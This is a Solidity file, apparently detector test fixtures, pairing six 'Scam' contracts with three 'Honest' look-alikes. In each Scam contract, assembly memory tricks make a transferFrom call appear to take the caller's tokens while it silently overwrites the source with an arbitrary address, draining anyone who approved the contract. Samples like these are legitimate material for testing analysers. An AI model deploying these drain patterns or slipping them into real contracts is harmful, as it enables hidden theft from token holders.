// SPDX-License-Identifier: MIT
pragma solidity ^0.8.19;

import "@openzeppelin/contracts/token/ERC20/IERC20.sol";
import "@openzeppelin/contracts/token/ERC20/utils/SafeERC20.sol";

/// The account that tokens are taken from is written, and written over under another name: the code's places are
/// one byte further on than they seem, as time is never 0.

contract ScamWrittenOver {
    function take(address token, address from, uint256 amount) external {
        assembly {
            let p := add(0x1000, gt(timestamp(), 1))
            mstore(p, shl(224, 0x23b872dd))
            mstore(add(p, 4), caller())
            mstore(0x1005, from)
            mstore(add(p, 0x24), address())
            mstore(add(p, 0x44), amount)
            pop(call(gas(), token, 0, p, 0x64, 0, 0))
        }
    }
}

/// The same by a copy.
contract ScamCopiedOver {
    function take(address token, address, uint256 amount) external {
        assembly {
            let p := add(0x1000, gt(timestamp(), 1))
            mstore(p, shl(224, 0x23b872dd))
            mstore(add(p, 4), caller())
            mstore(add(p, 0x24), address())
            mstore(add(p, 0x44), amount)
            calldatacopy(0x1005, 0x24, 0x20)
            pop(call(gas(), token, 0, p, 0x64, 0, 0))
        }
    }
}

/// Written over where callers say.
contract ScamWrittenAt {
    function take(address token, address from, uint256 amount, uint256 at) external {
        assembly {
            mstore(0x1000, shl(224, 0x23b872dd))
            mstore(0x1004, caller())
            mstore(0x1024, address())
            mstore(0x1044, amount)
            mstore(at, from)
            pop(call(gas(), token, 0, 0x1000, 0x64, 0, 0))
        }
    }
}

/// The place is behind an answer of no length.
contract ScamWrittenBehindAnswer {
    function take(address token, address from, uint256 amount) external {
        assembly {
            pop(staticcall(gas(), 4, 0, 0, 0, 0))
            let p := add(mload(0x40), returndatasize())
            mstore(p, shl(224, 0x23b872dd))
            mstore(add(p, 4), caller())
            mstore(add(p, 0x24), address())
            mstore(add(p, 0x44), amount)
            mstore(add(mload(0x40), 4), from)
            pop(call(gas(), token, 0, p, 0x64, 0, 0))
        }
    }
}

/// The account stands there before; of the caller's address the last bytes are written over its first.
contract ScamWrittenUnder {
    function take(address token, address from, uint256 amount) external {
        assembly {
            let p := add(0x1000, gt(timestamp(), 1))
            mstore(0x1005, from)
            mstore(sub(p, 8), caller())
            mstore(sub(p, 28), 0x23b872dd)
            mstore(add(p, 0x24), caller())
            mstore(add(p, 0x44), amount)
            pop(call(gas(), token, 0, p, 0x64, 0, 0))
        }
    }
}

/// Encoded by the compiler, written over where callers say, and copied once more to be sent.
contract ScamWrittenInto {
    function take(address token, bytes32 from, uint256 at, uint256 amount) external {
        bytes memory data = abi.encodeWithSelector(0x23b872dd, msg.sender, address(this), amount);
        assembly {
            mstore(add(add(data, 36), at), from)
        }
        (bool ok, ) = token.call(data);
        require(ok);
    }
}

/// What callers say stands before the caller is written over it, and behind all that is sent.
contract HonestWrittenBefore {
    function take(address token, address whom, uint256 amount) external {
        assembly {
            let p := add(0x1000, gt(timestamp(), 1))
            mstore(0x1004, whom)
            mstore(p, shl(224, 0x23b872dd))
            mstore(add(p, 4), caller())
            mstore(add(p, 0x24), address())
            mstore(add(p, 0x44), amount)
            pop(call(gas(), token, 0, p, 0x64, 0, 0))
        }
    }
}

contract HonestWrittenBehind {
    function take(address token, uint256 amount, bytes calldata more) external {
        assembly {
            let p := add(0x1000, gt(timestamp(), 1))
            mstore(p, shl(224, 0x23b872dd))
            mstore(add(p, 4), caller())
            mstore(add(p, 0x24), address())
            mstore(add(p, 0x44), amount)
            calldatacopy(add(p, 0x64), more.offset, more.length)
            pop(call(gas(), token, 0, p, add(0x64, more.length), 0, 0))
        }
    }
}

/// Deposits of the caller's, beside which the compiler keeps what callers say in memory.
contract HonestNoted {
    using SafeERC20 for IERC20;

    IERC20 public immutable token;
    mapping(address => uint256) public deposits;

    event Noted(address who, bytes note);

    constructor(IERC20 token_) {
        token = token_;
    }

    function take(uint256 amount) internal {
        deposits[msg.sender] += amount;
        token.safeTransferFrom(msg.sender, address(this), amount);
    }

    function deposit(uint256 amount, bytes calldata note) external {
        bytes memory kept = note;
        take(amount);
        emit Noted(msg.sender, kept);
    }

    function depositSpread(uint256 amount, uint256 parts) external {
        uint256[] memory spread = new uint256[](parts);
        for (uint256 i; i < parts; i++) spread[i] = amount / parts;
        require(spread[parts - 1] > 0, "too many");
        take(amount);
    }
}
